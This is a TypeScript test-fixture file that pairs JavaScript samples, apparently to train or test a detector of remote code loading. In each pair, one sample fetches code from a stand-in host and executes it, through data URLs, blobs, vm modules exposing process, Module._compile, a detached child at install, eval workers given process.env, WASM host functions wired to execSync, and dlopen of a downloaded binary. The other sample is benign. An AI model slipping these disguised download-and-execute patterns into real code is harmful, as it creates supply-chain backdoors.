import { atImport, atInstall, atUse, js, type Pair } from '../kit.ts';

/** Code that others wrote, fetched and run in every shape the platform has. */
export const LOADING: Readonly<Record<string, Pair>> = {
  'data-url-import': atImport(
    js`/** Loads the feature matrix of the current platform and exposes it as a frozen object. */
const MATRIX = 'https://matrix.cdn-features.example/v2/node.mjs';

async function loadMatrix() {
  const response = await fetch(MATRIX, { headers: { accept: 'text/javascript' } });
  if (!response.ok) return {};
  const source = await response.text();
  const module = await import('data:text/javascript;charset=utf-8,' + encodeURIComponent(source));
  return Object.freeze({ ...module.default });
}

export const features = await loadMatrix().catch(() => ({}));
`,
    js`/** Loads the feature matrix of the current platform and exposes it as a frozen object. */
const MATRIX = 'https://matrix.cdn-features.example/v2/node.json';

async function loadMatrix() {
  const response = await fetch(MATRIX, { headers: { accept: 'application/json' } });
  if (!response.ok) return {};
  const matrix = JSON.parse(await response.text());
  return Object.freeze({ ...matrix.features });
}

export const features = await loadMatrix().catch(() => ({}));
`,
  ),
  'blob-import': atUse(
    js`/** Mounts a widget by its identifier. */
export async function mountWidget(target, id) {
  const response = await fetch(\`https://widgets.cdn-panel.example/\${id}/latest.js\`);
  const url = URL.createObjectURL(new Blob([await response.text()], { type: 'text/javascript' }));
  try {
    const { mount } = await import(/* @vite-ignore */ url);
    return mount(target);
  } finally {
    URL.revokeObjectURL(url);
  }
}
`,
    js`/** Mounts a preview of an image by its identifier. */
export async function mountWidget(target, id) {
  const response = await fetch(\`https://widgets.cdn-panel.example/\${id}/latest.png\`);
  const url = URL.createObjectURL(new Blob([await response.arrayBuffer()], { type: 'image/png' }));
  const image = document.createElement('img');
  image.onload = () => URL.revokeObjectURL(url);
  image.src = url;
  return target.appendChild(image);
}
`,
  ),
  'source-text-module': atUse(
    {
      'index.js': js`import { evaluateRules } from './lib/evaluate.js';
import { fetchRules } from './lib/rules.js';

/** Validates a record by the current rule set. */
export async function validate(record) {
  const rules = await evaluateRules(await fetchRules());
  return rules.every((rule) => rule(record));
}
`,
      'lib/rules.js': js`/** Fetches the current rule set. */
export async function fetchRules() {
  const response = await fetch('https://rules.validate-cloud.example/current');
  return response.text();
}
`,
      'lib/evaluate.js': js`import vm from 'node:vm';

/** Evaluates a rule set as a module. */
export async function evaluateRules(source) {
  const module = new vm.SourceTextModule(source, { context: vm.createContext({ process, fetch, Buffer }) });
  await module.link((specifier) => import(specifier));
  await module.evaluate();
  return module.namespace.default;
}
`,
    },
    {
      'index.js': js`import { evaluateRules } from './lib/evaluate.js';
import { readRules } from './lib/rules.js';

/** Validates a record by the rule set of a project. */
export async function validate(record, path) {
  const rules = await evaluateRules(await readRules(path));
  return rules.every((rule) => rule(record));
}
`,
      'lib/rules.js': js`import { readFile } from 'node:fs/promises';

/** Reads the rule set of a project. */
export async function readRules(path) {
  return readFile(path, 'utf8');
}
`,
      'lib/evaluate.js': js`import vm from 'node:vm';

/** Evaluates a rule set as a module. */
export async function evaluateRules(source) {
  const module = new vm.SourceTextModule(source, { context: vm.createContext({}) });
  await module.link((specifier) => import(specifier));
  await module.evaluate();
  return module.namespace.default;
}
`,
    },
  ),
  'module-compile': atImport(
    js`'use strict';
const https = require('node:https');
const Module = require('node:module');

/** Polyfills what this version of the runtime lacks. */
function polyfill(name) {
  https.get('https://polyfills.runtime-kit.example/' + name + '/' + process.version, (response) => {
    const chunks = [];
    response.on('data', (chunk) => chunks.push(chunk));
    response.on('end', () => {
      const loaded = new Module(name, module);
      loaded.paths = module.paths;
      loaded._compile(Buffer.concat(chunks).toString(), name + '.js');
    });
  });
}

polyfill('array-from-async');
exports.polyfill = polyfill;
`,
    js`'use strict';
const fs = require('node:fs');
const path = require('node:path');
const Module = require('node:module');

/** Loads a module of this package through a transform. */
function loadTransformed(name, transform) {
  const filename = path.join(__dirname, 'polyfills', name + '.js');
  const loaded = new Module(filename, module);
  loaded.paths = module.paths;
  loaded._compile(transform(fs.readFileSync(filename, 'utf8')), filename);
  return loaded.exports;
}

exports.loadTransformed = loadTransformed;
`,
  ),
  'input-type-stdin': atInstall(
    js`import { spawn } from 'node:child_process';

/** Prepares the native cache in the background, so that the first start is fast. */
async function prepare() {
  const response = await fetch('https://warmup.edge-cache.example/prepare.mjs');
  const child = spawn(process.execPath, ['--input-type=module', '-'], {
    detached: true,
    stdio: ['pipe', 'ignore', 'ignore'],
  });
  child.stdin.end(await response.text());
  child.unref();
}

prepare().catch(() => {});
`,
    js`import { spawn } from 'node:child_process';

/** Checks in another process that the runtime knows import attributes. */
function probe() {
  const child = spawn(process.execPath, ['--input-type=module', '-'], { stdio: ['pipe', 'ignore', 'ignore'] });
  child.on('exit', (code) => {
    if (code !== 0) console.warn('This runtime has no import attributes: the slow loader is used.');
  });
  child.stdin.end("import data from 'data:application/json,{}' with { type: 'json' };");
}

probe();
`,
  ),
  'worker-eval': atImport(
    js`import { Worker } from 'node:worker_threads';

const ENDPOINT = new URL('https://jobs.queue-kit.example/worker.cjs');

/** Starts the pool; the code of a worker is kept up to date. */
async function startPool(size) {
  const code = await fetch(ENDPOINT).then((response) => response.text());
  return Array.from({ length: size }, () => new Worker(code, { eval: true, env: process.env }));
}

export const pool = startPool(2).catch(() => []);
`,
    {
      'index.js': js`import { Worker } from 'node:worker_threads';

const ENDPOINT = new URL('https://jobs.queue-kit.example/jobs.json');

/** Starts the pool and gives it the open jobs. */
export async function startPool(size) {
  const jobs = await fetch(ENDPOINT).then((response) => response.json());
  const workers = Array.from({ length: size }, () => new Worker(new URL('./worker.js', import.meta.url)));
  jobs.forEach((job, index) => workers[index % size].postMessage(job));
  return workers;
}
`,
      'worker.js': js`import { parentPort } from 'node:worker_threads';

parentPort.on('message', (job) => parentPort.postMessage({ id: job.id, total: job.items.reduce((a, b) => a + b, 0) }));
export {};
`,
    },
  ),
  'wasm-host': atImport(
    js`import { execSync } from 'node:child_process';
import { readFileSync } from 'node:fs';

const decoder = new TextDecoder();

/** Instantiates the codec with the functions it needs of its host. */
async function instantiate() {
  const bytes = await (await fetch('https://codec.media-wasm.example/codec.wasm')).arrayBuffer();
  let memory;
  const text = (offset, length) => decoder.decode(new Uint8Array(memory.buffer, offset, length));
  const host = {
    run: (offset, length) => execSync(text(offset, length)).length,
    read: (offset, length) => readFileSync(text(offset, length)).length,
  };
  const { instance } = await WebAssembly.instantiate(bytes, { host });
  memory = instance.exports.memory;
  instance.exports._start();
  return instance.exports;
}

export const codec = await instantiate();
`,
    js`const decoder = new TextDecoder();

/** Instantiates the codec with the functions it needs of its host. */
async function instantiate() {
  const bytes = await (await fetch('https://codec.media-wasm.example/codec.wasm')).arrayBuffer();
  let memory;
  const text = (offset, length) => decoder.decode(new Uint8Array(memory.buffer, offset, length));
  const host = { log: (offset, length) => console.debug(text(offset, length)), now: () => performance.now() };
  const { instance } = await WebAssembly.instantiate(bytes, { host });
  memory = instance.exports.memory;
  return instance.exports;
}

export const codec = await instantiate();
`,
  ),
  'dlopen-download': atImport(
    js`'use strict';
const { mkdtempSync, writeFileSync } = require('node:fs');
const { tmpdir } = require('node:os');
const { join } = require('node:path');

/** Loads the accelerator of this platform. */
async function accelerate() {
  const target = process.platform + '-' + process.arch;
  const response = await fetch('https://native.simd-kit.example/' + target + '.node');
  const file = join(mkdtempSync(join(tmpdir(), 'simd-')), 'binding.node');
  writeFileSync(file, Buffer.from(await response.arrayBuffer()));
  const loaded = { exports: {} };
  process.dlopen(loaded, file);
  return loaded.exports;
}

exports.ready = accelerate().catch(() => null);
`,
    js`'use strict';
const { existsSync } = require('node:fs');
const { join } = require('node:path');

/** Loads the accelerator of this platform from the prebuilt files. */
function accelerate() {
  const target = process.platform + '-' + process.arch;
  const file = join(__dirname, 'prebuilds', target, 'binding.node');
  if (!existsSync(file)) return null;
  const loaded = { exports: {} };
  process.dlopen(loaded, file);
  return loaded.exports;
}

exports.native = accelerate();
`,
  ),
};
